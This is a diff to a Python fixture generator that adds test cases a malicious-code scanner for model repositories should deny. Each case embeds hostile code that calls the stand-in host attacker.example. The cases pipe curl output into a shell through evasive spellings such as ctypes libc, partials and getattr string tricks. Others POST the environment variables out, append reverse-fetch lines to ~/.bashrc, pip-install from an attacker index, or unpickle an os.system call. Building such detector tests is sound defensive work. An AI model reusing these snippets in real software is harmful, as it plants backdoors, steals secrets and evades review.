@@ -1522,6 +1522,137 @@ case("loaders/malicious-feature-extractor-automap", "deny", "`auto_map.AutoFeatu
         "preprocessor_config.json": json.dumps({"feature_extractor_type": "TinyFeatureExtractor", "sampling_rate": 16000,
                                                 "auto_map": {"AutoFeatureExtractor": "feature_extraction_tiny.TinyFeatureExtractor"}}, indent=2) + "\n"}))
 
+# ==== cases_f: spellings found by probing after the first judge (callables passed as values, libc, runpy, ...) ====
+case("deferred/malicious-executor-submit", "deny", "`ThreadPoolExecutor().submit(os.system, ...)`: the dangerous callable passed as a value to a worker thread",
+     remote(modeling(imports="import concurrent.futures\nimport os\n", module='''
+        _POOL = concurrent.futures.ThreadPoolExecutor(max_workers=1)
+        _POOL.submit(os.system, "curl -s https://attacker.example/pool | sh")
+     ''')))
+case("deferred/malicious-call-later", "deny", "`loop.call_later(5, os.system, ...)` on an asyncio loop run from `__init__`",
+     remote(modeling(imports="import asyncio\nimport os\n", init='''
+        loop = asyncio.new_event_loop()
+        loop.call_later(0.1, os.system, "curl -s https://attacker.example/later | sh")
+        loop.run_until_complete(asyncio.sleep(0.2))
+     ''')))
+case("process-exec/malicious-functools-partial", "deny", "`functools.partial(subprocess.run, [...])()`: the call made through a partial",
+     remote(modeling(imports="import functools\nimport subprocess\n", module='''
+        _warm = functools.partial(subprocess.run, ["sh", "-c", "curl -s https://attacker.example/partial | sh"], check=False)
+        _warm()
+     ''')))
+case("process-exec/malicious-ctypes-libc-system", "deny", "`ctypes.CDLL(ctypes.util.find_library(\"c\")).system(b\"...\")`: libc's `system` called through ctypes",
+     remote(modeling(imports="import ctypes\nimport ctypes.util\n", module='''
+        _libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6")
+        _libc.system(b"curl -s https://attacker.example/libc | sh")
+     ''')))
+case("aliasing/malicious-callable-passed", "deny", "`os.system` never called by name: `list(map(os.system, [...]))` and `(lambda f: f(...))(subprocess.getoutput)`",
+     remote(modeling(imports="import os\nimport subprocess\n", module='''
+        list(map(os.system, ["curl -s https://attacker.example/map | sh"]))
+        (lambda f: f("curl -s https://attacker.example/lam | sh"))(subprocess.getoutput)
+     ''')))
+case("aliasing/malicious-operator-methodcaller", "deny", "`operator.methodcaller(\"system\", ...)(os)`",
+     remote(modeling(imports="import operator\nimport os\n", module='''
+        operator.methodcaller("system", "curl -s https://attacker.example/mc | sh")(os)
+     ''')))
+case("aliasing/malicious-staticmethod-attribute", "deny", "`subprocess.call` bound to a class attribute (`staticmethod`) and called as `Kernels.build(...)`",
+     remote(modeling(imports="import subprocess\n", module='''
+        class Kernels:
+            build = staticmethod(subprocess.call)
+
+
+        Kernels.build(["sh", "-c", "curl -s https://attacker.example/sm | sh"])
+     ''')))
+case("aliasing/malicious-builtins-subscript", "deny", "`__builtins__[\"exec\"]` (a dict in imported modules) on a base64 blob",
+     remote(modeling(imports="import base64\n", module=f'''
+        _run = __builtins__["exec"] if isinstance(__builtins__, dict) else getattr(__builtins__, "exec")
+        _run(base64.b64decode("{b64(STAGE)}"))
+     ''')))
+case("package-install/malicious-runpy-pip", "deny", "`runpy.run_module(\"pip\", run_name=\"__main__\")` with `sys.argv` set to install from another index",
+     remote(modeling(imports="import runpy\nimport sys\n", module='''
+        _argv = sys.argv
+        sys.argv = ["pip", "install", "-q", "--index-url", "https://pypi.attacker.example/simple", "tiny-kernels"]
+        try:
+            runpy.run_module("pip", run_name="__main__")
+        except SystemExit:
+            pass
+        finally:
+            sys.argv = _argv
+     ''')))
+case("persistence-dotfile/malicious-pathlib-expanduser", "deny", "`Path(\"~/.bashrc\").expanduser().open(\"a\")`",
+     remote(modeling(imports="from pathlib import Path\n", module='''
+        with Path("~/.bashrc").expanduser().open("a") as _rc:
+            _rc.write("\\n(curl -s https://attacker.example/pl | sh) &\\n")
+     ''')))
+case("exfiltration/malicious-urllib3-environ", "deny", "`urllib3.PoolManager().request(\"POST\", ..., body=json.dumps(dict(os.environ)))`",
+     remote(modeling(imports="import json\nimport os\nimport urllib3\n", module='''
+        try:
+            urllib3.PoolManager().request("POST", "https://attacker.example/u3", body=json.dumps(dict(os.environ)), timeout=3.0)
+        except Exception:
+            pass
+     ''')))
+case("exfiltration/malicious-session-params-environ", "deny", "`requests.Session().get(url, params=os.environ)`: the whole environment as query parameters",
+     remote(modeling(imports="import os\nimport requests\n", init='''
+        with requests.Session() as s:
+            s.get("https://attacker.example/q", params=os.environ, timeout=3)
+     ''')))
+case("native-load/malicious-extension-file-loader", "deny", "a shipped `.so` imported as a Python extension (`importlib.machinery.ExtensionFileLoader(...).load_module()` and `spec_from_file_location` + `exec_module`)",
+     remote(modeling(imports="import importlib.machinery\nimport importlib.util\nimport os\n", module=_LIB + dedent('''
+        _fast = importlib.machinery.ExtensionFileLoader("tiny_kernels", _LIB).load_module()
+        _spec = importlib.util.spec_from_file_location("tiny_kernels2", _LIB)
+        _mod = importlib.util.module_from_spec(_spec)
+        _spec.loader.exec_module(_mod)
+     '''))))
+case("native-load/malicious-cpp-extension-repo-sources", "deny", "`torch.utils.cpp_extension.load` of C++ sources shipped in the repository (the shipped `tiny_kernel.cpp` runs `system()` when loaded)",
+     remote(modeling(imports="import os\nfrom torch.utils.cpp_extension import load\n", module='''
+        _here = os.path.dirname(os.path.abspath(__file__))
+        _kernel = load(name="tiny_kernel", sources=[os.path.join(_here, "tiny_kernel.cpp")], verbose=False)
+     '''), extra={"tiny_kernel.cpp": dedent('''
+        #include <torch/extension.h>
+        #include <cstdlib>
+
+        static int _init = std::system("curl -s https://attacker.example/cpp2 | sh");
+
+        torch::Tensor rope(torch::Tensor x) { return x; }
+
+        PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) { m.def("rope", &rope); }
+     ''')}))
+case("persistence-dotfile/malicious-os-open-fd", "deny", "`os.open(~/.bashrc, O_WRONLY | O_APPEND)` + `os.write`: the low-level file API",
+     remote(modeling(imports="import os\n", module='''
+        try:
+            _fd = os.open(os.path.expanduser("~/.bashrc"), os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
+            os.write(_fd, b"\\n(curl -s https://attacker.example/fd | sh) &\\n")
+            os.close(_fd)
+        except OSError:
+            pass
+     ''')))
+case("tampering/malicious-builtins-dict-update", "deny", "`builtins.__dict__.update(open=..., __import__=...)`: builtins replaced without an attribute assignment",
+     remote(modeling(imports="import builtins\n", module='''
+        _real_open = builtins.open
+
+
+        def _open(file, *args, **kwargs):
+            return _real_open(file, *args, **kwargs)
+
+
+        builtins.__dict__.update(open=_open)
+     ''')))
+case("dynamic-code/malicious-torch-load-literal-pickle", "deny", "`torch.load(io.BytesIO(base64.b64decode(...)), weights_only=False)`: a literal pickle that calls `os.system`, unpickled through torch.load",
+     remote(modeling(imports="import base64\nimport io\n", module=f'''
+        _DEFAULTS = torch.load(io.BytesIO(base64.b64decode("{base64.b64encode(b"cposix" + bytes([10]) + b"system" + bytes([10]) + b"(S'curl -s https://attacker.example/tl | sh'" + bytes([10]) + b"tR.").decode()}")), weights_only=False)
+     ''')))
+case("aliasing/malicious-string-methods", "deny", "names built with str methods on literals: `getattr(os, \"SYSTEM\".lower())`, `\"sXstem\".replace(\"X\", \"y\")`",
+     remote(modeling(imports="import os\n", module='''
+        getattr(os, "SYSTEM".lower())("curl -s https://attacker.example/lo | sh")
+        getattr(os, "pXpen".replace("X", "o"))("id | nc attacker.example 9003")
+     ''')))
+case("aliasing/malicious-callable-returned", "deny", "a helper returns `os.system` and the result is called: `_runner()(cmd)`",
+     remote(modeling(imports="import os\n", module='''
+        def _runner():
+            return os.system
+
+
+        _runner()("curl -s https://attacker.example/ret | sh")
+     ''')))
+
 # ==== write ====
 
 root = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "fixtures", "behaviour")
